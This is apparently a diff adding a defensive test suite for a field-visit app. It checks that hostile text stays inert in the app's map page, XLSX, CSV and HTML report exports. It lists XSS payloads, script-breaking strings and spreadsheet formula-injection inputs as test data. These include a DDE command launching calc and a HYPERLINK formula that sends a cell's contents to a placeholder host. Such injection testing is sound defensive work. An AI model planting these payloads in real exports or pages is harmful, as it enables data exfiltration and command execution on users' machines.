@@ -1,0 +1,171 @@
+"""Issue 17: hostile text (names, case ids, collectors, comments) through every export — the map
+page, XLSX, CSV, the PDF report's and the prep sheet's HTML — stays text: nothing executes (no
+script closed or opened, no comment that swallows the page's script) and nothing evaluates (no
+spreadsheet formula)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from datetime import date
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from fieldvisit.adapters.escape import FORMULA_START, csv_cell, html_text, json_for_script
+from fieldvisit.adapters.maps.page import build_page
+from fieldvisit.adapters.report_files import report_html, write_csv, write_xlsx
+from fieldvisit.services.reports import DAY_COLUMNS, VISIT_COLUMNS
+
+CASES = Path("/work/shared/cases")
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+NASTY = ["<!--<script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\u2028\u2029",
+         "=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")", "@SUM(1+1)", "+1+1", "-2+3", "\tTAB", "\rCR",
+         "=cmd|' /C calc'!A0", "#N/A", "&lt;", "]]>", "'quoted'", '"dq"', "`${x}`"]
+hostile = st.one_of(st.sampled_from(NASTY), st.text(alphabet=st.sampled_from(list("<>&=@+-\t\r!/'\"sx\u2028")),
+                                                    min_size=1, max_size=12))
+
+
+@pytest.fixture(autouse=True)
+def _qt(qapp):
+    """Headings and map labels go through Qt's translator: a QApplication first."""
+    return qapp
+
+
+def fv(*args, db):
+    return subprocess.run([sys.executable, "-m", "fieldvisit", "--db", db, *args], capture_output=True, text=True,
+                          env={**os.environ, "TZ": "Europe/Madrid"}, timeout=120)
+
+
+# --- case 06: formula injection in the team report -----------------------------------------------
+
+def test_case_06_report_cells_are_text(tmp_path):
+    db = str(tmp_path / "ws.sqlite")
+    folder = CASES / "06_formula_injection_report"
+    assert fv("cases", "import", str(folder / "cases.csv"), "--as-of", "2026-11-23", db=db).returncode == 0
+    assert fv("visits", "add", "--json-file", str(folder / "visit.json"), db=db).returncode == 0
+    for fmt in ("xlsx", "csv"):
+        r = fv("report", "--from", "2026-11-01", "--to", "2026-11-30", "--format", fmt,
+               "--out", str(tmp_path / f"r.{fmt}"), db=db)
+        assert r.returncode == 0, r.stderr
+    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    seen = set()
+    for ws in wb:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    seen.add(cell.value)
+    assert '=HYPERLINK("http://example.invalid/?d="&A1,"open")' in seen and "@SUM(1+1)" in seen
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
+    assert rows[0]["case_id"] == '\'=HYPERLINK("http://example.invalid/?d="&A1,"open")'
+    assert rows[0]["collector"] == "'@SUM(1+1)"
+
+
+# --- one function per destination ------------------------------------------------------------
+
+@given(st.lists(hostile, min_size=1, max_size=5))
+@settings(max_examples=200, deadline=None)
+def test_json_for_script_cannot_leave_the_script(values):
+    out = json_for_script({"names": values})
+    assert not re.search("[<>&\u2028\u2029]", out)
+    assert json.loads(out) == {"names": values}
+
+
+@given(hostile)
+@settings(max_examples=200, deadline=None)
+def test_csv_and_html_cells(value):
+    cell = csv_cell(value)
+    if value.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
+        assert cell == "'" + value
+    assert "<" not in html_text(value) and ">" not in html_text(value)
+
+
+# --- every export at once ------------------------------------------------------------------------
+
+def _report(text: str) -> dict:
+    visit = {c: text for c in VISIT_COLUMNS}
+    visit.update(version=1, promise_amount=None, payment_amount=None)
+    day = {c: 0 for c in DAY_COLUMNS}
+    day.update(date="2026-11-24", collector=text)
+    totals = {c: 0 for c in DAY_COLUMNS}
+    return {"visits": [visit], "days": [day], "totals": totals, "from": "2026-11-01", "to": "2026-11-30"}
+
+
+def _page(text: str) -> str:
+    case = {"id": text, "name": text, "lat": 40.42, "lon": -3.70, "bucket": "B1", "dpd": 10, "balance": text,
+            "window": text, "address": text, "flags": [text], "blocked": False, "promise": text}
+    route = {"collector": text, "date": "2026-11-24", "start": {"lat": 40.41, "lon": -3.71},
+             "end": {"lat": 40.41, "lon": -3.71},
+             "stops": [{"id": text, "name": text, "lat": 40.42, "lon": -3.70, "eta": "10:00", "wait": "",
+                        "appointment": False}]}
+    return build_page([case], route, standalone=True, title=text)
+
+
+def _scripts(page: str) -> int:
+    return len(re.findall(r"<script\b", page, re.I))
+
+
+@given(hostile)
+@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
+def test_every_export_keeps_hostile_text_as_text(_qt, tmp_path_factory, value):
+    tmp = tmp_path_factory.mktemp("x")
+    # map page: the same script structure as with a plain name; the text never appears raw
+    page, plain = _page(value), _page("Ana")
+    assert _scripts(page) == _scripts(plain)
+    assert page.count("<!--") == plain.count("<!--") and page.count("</script") == plain.count("</script")
+    # XLSX: string cells only
+    write_xlsx(tmp / "r.xlsx", _report(value))
+    for ws in openpyxl.load_workbook(tmp / "r.xlsx"):
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+    # CSV: no cell a spreadsheet would evaluate
+    write_csv(tmp / "r.csv", _report(value))
+    for row in csv.reader(io.StringIO((tmp / "r.csv").read_text(encoding="utf-8-sig"), newline="")):
+        for cell in row:
+            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), cell
+    # PDF report HTML: no element the text did not come from
+    markup = report_html(_report(value), value)
+    assert "<script" not in markup.lower() and "<img" not in markup.lower() and "<!--" not in markup
+
+
+def test_prep_sheet_html_escapes_the_case(sqlite_app):
+    from fieldvisit.adapters.pdf import sheet_html
+    from fieldvisit.services.demo import build_demo
+    from fieldvisit.services.prep import prep_sheet
+
+    build_demo(sqlite_app.uow(), count=5, as_of=date(2026, 11, 24))
+    with sqlite_app.uow() as uow:
+        case = uow.cases.list()[0]
+        case.name, case.address = "<!--<script>alert(1)</script>", "<img src=x onerror=alert(1)>"
+        uow.cases.update_many([(uow.cases.keys()[case.case_id], case, frozenset({"name", "address"}))], None)
+        uow.commit()
+    markup = sheet_html(prep_sheet(sqlite_app.uow(), case.case_id, date(2026, 11, 24)))
+    assert "<script" not in markup and "<img" not in markup and "<!--" not in markup
+    assert "&lt;!--&lt;script&gt;" in markup
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="chromium not installed")
+def test_a_name_opening_a_comment_does_not_stop_the_map(tmp_path):
+    """The page in a real browser: its script runs to the end (the title gets its ✓) and draws the stop."""
+    out = tmp_path / "map.html"
+    out.write_text(_page("<!--<script>"), encoding="utf-8")
+    cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+           "--disable-background-networking", "--disable-component-update", "--disable-sync",
+           f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000", "--dump-dom", out.as_uri()]
+    dom = subprocess.run(cmd, capture_output=True, text=True, timeout=120).stdout
+    assert "✓</title>" in dom
+    assert 'data-stop="&lt;!--&lt;script&gt;"' in dom  # the stop is drawn, its id shown as text
